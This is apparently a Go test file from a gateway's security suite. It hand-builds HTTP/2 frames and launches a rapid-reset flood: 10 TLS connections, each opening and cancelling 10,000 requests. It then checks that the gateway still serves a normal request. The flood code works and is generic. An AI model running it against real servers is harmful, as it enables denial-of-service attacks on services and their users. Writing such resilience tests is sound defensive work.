package attack_test

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net/http"
	"sync"
	"testing"
	"time"
)

// The parts of HTTP/2 that a rapid reset needs (RFC 9113).
const (
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4

	endOfStreamAndHeaders = 1 | 4
	cancel                = 8
)

// frame appends an HTTP/2 frame.
func frame(dst []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	dst = append(dst, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(dst, stream), payload...)
}

// getHeaders returns the header of GET /items/999999999, encoded with the static table of HPACK.
func getHeaders() []byte {
	const path, authority = "/items/999999999", "shop.example"
	block := []byte{0x80 | 2, 0x80 | 7, 4, byte(len(path))}
	block = append(append(block, path...), 1, byte(len(authority)))
	return append(block, authority...)
}

// attackByResets opens and cancels 100,000 requests over HTTP/2, as fast as the gateway reads.
func attackByResets(t *testing.T, g *target) {
	t.Helper()
	const connections, requests = 10, 10_000
	get, reset := getHeaders(), binary.BigEndian.AppendUint32(nil, cancel)
	var attacking sync.WaitGroup
	for range connections {
		conn, err := tls.Dial("tcp", g.tls, g.clientTLS("h2"))
		if err != nil {
			t.Fatal(err)
		}
		if protocol := conn.ConnectionState().NegotiatedProtocol; protocol != "h2" {
			t.Fatalf("the gateway chose the protocol %q", protocol)
		}
		if err := conn.SetDeadline(time.Now().Add(limit)); err != nil {
			t.Fatal(err)
		}
		attacking.Go(func() { _, _ = io.Copy(io.Discard, conn) }) // until one of both closes the connection
		attacking.Go(func() {
			defer conn.Close()
			all := frame([]byte(preface), frameSettings, 0, 0, nil)
			for stream := uint32(1); stream < 2*requests; stream += 2 {
				all = frame(all, frameHeaders, endOfStreamAndHeaders, stream, get)
				all = frame(all, frameReset, 0, stream, reset)
			}
			_, _ = conn.Write(all) // fails if the gateway has seen enough
		})
	}
	g.unaffected(t)
	attacking.Wait()

	client := &http.Client{Transport: &http.Transport{TLSClientConfig: g.clientTLS(), ForceAttemptHTTP2: true}, Timeout: limit}
	defer client.CloseIdleConnections()
	res, err := client.Get("https://" + g.tls + "/items/999999999")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.ProtoMajor != 2 || res.StatusCode != http.StatusNotFound {
		t.Errorf("%s %d after the attack", res.Proto, res.StatusCode)
	}
}

// clientTLS returns the configuration of a client that trusts the gateway's certificate.
func (g *target) clientTLS(protocols ...string) *tls.Config {
	config := g.certificates.Trusting()
	config.NextProtos = protocols
	return config
}
